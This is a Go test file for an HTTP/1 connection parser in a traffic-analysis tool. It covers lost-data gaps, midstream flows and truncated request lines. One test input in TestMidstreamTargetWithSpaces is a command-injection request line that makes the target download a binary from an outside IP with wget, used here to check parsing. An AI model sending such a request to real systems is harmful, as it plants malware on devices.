package http1

import (
	"fmt"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"spaniel/event"
)

// TestHoles loses a range of one direction of a connection without pipelining.
// No call may join a request to another's response, no byte may be glued over
// the hole, and the calls the hole did not touch are whole.
func TestHoles(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := rapid.IntRange(2, 8).Draw(t, "calls")
		var pushes []push
		for i := range n {
			pushes = append(pushes, req(numberedRequest(t, i)), res(numberedReply(t, i)))
		}
		dir := event.Direction(rapid.IntRange(0, 1).Draw(t, "dir"))
		hit := lose(t, pushes, dir)
		var whole, flagged int
		var bad string
		var led event.Ledger
		conn := NewConn(nil, nil, &event.Flow{}, &led, func(c *event.Call, _ event.Stamp) {
			id := c.Resp.Get("X-Id")
			if c.Req.Seen && c.Resp.Seen && id != "" && !strings.HasPrefix(c.Req.Target, "/"+id+"/") {
				bad = fmt.Sprintf("%s has the answer to %s", c.Req.Target, id)
			}
			for _, raw := range [][]byte{c.Req.Raw, c.Resp.Raw} {
				if s := string(raw); strings.Trim(s, "b") != "" && strings.Trim(s, "r") != "" {
					bad = "glued: " + s
				}
			}
			if c.Flags == 0 {
				whole++
			} else {
				flagged++
			}
		})
		at := event.Stamp{}
		for _, p := range pushes {
			at.Time += 1e9
			at.Frame++
			at.Clock = at.Time
			for _, part := range strings.SplitAfter(p.data, "\x00") { // NUL marks where the hole is
				conn.Data(p.dir, []byte(strings.TrimSuffix(part, "\x00")), at)
				if strings.HasSuffix(part, "\x00") {
					conn.Gap(p.dir, p.gap, at)
				}
			}
		}
		conn.Close(at)
		if bad != "" || whole < n-hit {
			t.Fatalf("%s; %d whole calls, %d flagged, of %d with %d hit: %+v", bad, whole, flagged, n, hit, pushes)
		}
	})
}

func numberedRequest(t *rapid.T, i int) string {
	body := strings.Repeat("b", rapid.IntRange(0, 30).Draw(t, "body"))
	switch rapid.IntRange(0, 2).Draw(t, "kind") {
	case 0:
		return fmt.Sprintf("GET /%d/ HTTP/1.1\r\nHost: x\r\n\r\n", i)
	case 1:
		return fmt.Sprintf("POST /%d/ HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", i, len(body), body)
	}
	return fmt.Sprintf("POST /%d/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%sb\r\n0\r\n\r\n", i, len(body)+1, body)
}

func numberedReply(t *rapid.T, i int) string {
	body := strings.Repeat("r", rapid.IntRange(0, 30).Draw(t, "body"))
	if rapid.Bool().Draw(t, "chunked") {
		return fmt.Sprintf("HTTP/1.1 200 OK\r\nX-Id: %d\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%sr\r\n0\r\n\r\n", i, len(body)+1, body)
	}
	return fmt.Sprintf("HTTP/1.1 200 OK\r\nX-Id: %d\r\nContent-Length: %d\r\n\r\n%s", i, len(body), body)
}

// lose cuts a range out of one direction, puts a mark in its place, and
// returns how many messages it touched.
func lose(t *rapid.T, pushes []push, dir event.Direction) int {
	first := rapid.IntRange(0, len(pushes)/2-1).Draw(t, "first")*2 + int(dir)
	from := rapid.IntRange(0, len(pushes[first].data)-1).Draw(t, "from")
	left := rapid.IntRange(1, 200).Draw(t, "bytes")
	size, hit := 0, 0
	for i := first; i < len(pushes) && left > 0; i += 2 {
		p := &pushes[i]
		end := min(len(p.data), from+left)
		size += end - from
		left -= end - from
		rest := p.data[end:]
		p.data = p.data[:from]
		hit++
		if left == 0 || i+2 >= len(pushes) {
			p.data += "\x00" + rest
			p.gap = uint64(size)
		}
		from = 0
	}
	return hit
}

// TestMidstreamTargetWithSpaces picks a flow up at a request whose target was
// not encoded, as exploit tools send it.
func TestMidstreamTargetWithSpaces(t *testing.T) {
	for in, want := range map[string]int{
		"GET /shell?cd+/tmp;wget+ http://192.0.2.1/arm HTTP/1.1\r\nHost: x\r\n\r\n": 1,
		"GET the book HTTP/1.1\r\nHost: x\r\n\r\n":                                  0,
		"SEEN /a b HTTP/1.1\r\nHost: x\r\n\r\n":                                     0,
	} {
		var led event.Ledger
		n := 0
		conn := NewConn(nil, nil, &event.Flow{Flags: event.FlagMidstream}, &led, func(*event.Call, event.Stamp) { n++ })
		conn.Data(up, []byte(in), event.Stamp{})
		conn.Close(event.Stamp{})
		if n != want {
			t.Errorf("%q: %d calls, want %d", in, n, want)
		}
	}
}

// TestRequestLineCut loses a request from some byte of its first line on: it
// is reported as soon as its target is whole, and says that it is not.
func TestRequestLineCut(t *testing.T) {
	const line = "GET /images/a.gif HTTP/1.1"
	for n := range len(line) {
		want := []string{"1 -> 200 flags=response_only"}
		if n > len("GET /images/a.gif") {
			want[0] = "1 GET /images/a.gif host= -> 200 flags=gap,req_incomplete"
		}
		r := newRig(nil).run(0, req(line[:n]), hole(up, 300), res(ok0))
		if got := strings.Join(r.calls, "\n"); got != want[0] {
			t.Errorf("%q: %s, want %s", line[:n], got, want[0])
		}
	}
}
